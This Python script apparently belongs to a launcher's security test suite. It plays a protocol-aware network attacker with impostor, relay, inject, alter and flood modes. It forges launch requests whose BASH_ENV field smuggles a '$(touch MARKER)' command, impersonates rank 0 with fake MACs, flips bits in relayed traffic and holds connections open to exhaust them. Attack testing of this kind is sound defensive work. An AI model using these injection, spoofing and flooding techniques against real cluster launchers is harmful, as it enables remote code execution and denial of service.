#!/usr/bin/env python3
"""A stranger on the network of a run whose tasks a launcher has started, who knows the protocol.

  attacker.py impostor ADDRESS PORT MARKER          answers in rank 0's place, for a program to be run that makes MARKER
  attacker.py relay ADDRESS PORT TARGET             passes everything on to rank 0's task at TARGET and back
  attacker.py inject ADDRESS PORT TARGET MARKER     the same, and puts the same program into an agent's stream
  attacker.py alter ADDRESS PORT TARGET             the same, and changes one bit of what an agent hears
  attacker.py flood ADDRESS PORT TARGET SOURCE...   keeps an idle connection to TARGET from each source

Says "ready" when it listens, or floods. Ends when it is killed.
"""
import json
import pathlib
import re
import select
import signal
import socket
import struct
import sys
import threading
import time

FRAMES = pathlib.Path(__file__).parents[2] / "engine/run/protocol/frame.h"
VERSION = int(re.search(r"kProtocolVersion = (\d+);", FRAMES.read_text())[1])
PATIENCE = 10


def frame(message) -> bytes:
    text = json.dumps(message).encode()
    return struct.pack("<IHHII", len(text), 1, VERSION, 0xFFFFFFFF, 0) + text


def evil_request(marker) -> bytes:
    return frame({"type": "launch_request", "config": {}, "origin_ns": 0, "rank_program": "/usr/bin/ldd",
                  "segment_bytes": 1 << 20, "environment": {"BASH_ENV": f"$(touch {marker})"},
                  "places": {"per_host": [1, 1]}, "host": 1, "meeting": {"address": "", "port": 0, "key": "0" * 64}})


def impostor(connection, _, marker):
    """As rank 0's tasks speak and have spoken; a different try for each connection."""
    mac = "a" * 64
    tries = [[f"welcome {mac}", "lead 0-1"], [f"challenge {mac}", f"welcome {mac}", "lead 0-1"],
             [f"challenge {mac}", "unproved"], [f"challenge {mac}", f"refused {mac} go away"]]
    impostor.count = getattr(impostor, "count", 0) + 1
    try:
        connection.settimeout(PATIENCE)
        connection.recv(4096)
        for line in tries[impostor.count % len(tries)]:
            connection.sendall(line.encode() + b"\n")
        connection.sendall(evil_request(marker) + b"end 0\n")
        while connection.recv(4096):
            pass
    except OSError:
        pass
    connection.close()


def relay(connection, target, marker, mode):
    try:
        other = socket.create_connection(target)
    except OSError:  # not yet
        return connection.close()
    ends = {connection: other, other: connection}
    agent = welcomed = False
    try:
        while True:
            for end in select.select(list(ends), [], [])[0]:
                data = end.recv(65536)
                if not data:
                    return
                agent = agent or (end is connection and b"\tagent\t" in data[:64])
                if agent and welcomed and end is other and mode == "alter":
                    data, mode = bytes([data[0], data[1] ^ 1]) + data[2:], "relay"
                ends[end].sendall(data)
                welcomed = welcomed or (end is other and data.startswith(b"welcome "))
                if agent and welcomed and mode == "inject":
                    mode = "relay"
                    connection.sendall(evil_request(marker))
    except OSError:
        pass
    finally:
        connection.close()
        other.close()


def flood(source, target):
    """Connects again as soon as it is dropped."""
    while True:
        try:
            with socket.create_connection(target, timeout=1, source_address=(source, 0)) as connection:
                connection.settimeout(None)
                while connection.recv(4096):
                    pass
        except OSError:
            time.sleep(0.01)


def main(mode, address, port, *rest):
    if mode == "flood":
        for source in rest[1:]:
            threading.Thread(target=flood, args=(source, (rest[0], int(port))), daemon=True).start()
        print("ready", flush=True)
        signal.pause()
    listener = socket.create_server((address, int(port)), reuse_port=True, backlog=64)
    print("ready", flush=True)
    while True:
        connection, _ = listener.accept()
        if mode == "impostor":
            work, arguments = impostor, (connection, None, rest[0])
        else:
            work, arguments = relay, (connection, (rest[0], int(port)), rest[-1], mode)
        threading.Thread(target=work, args=arguments, daemon=True).start()


if __name__ == "__main__":
    main(*sys.argv[1:])
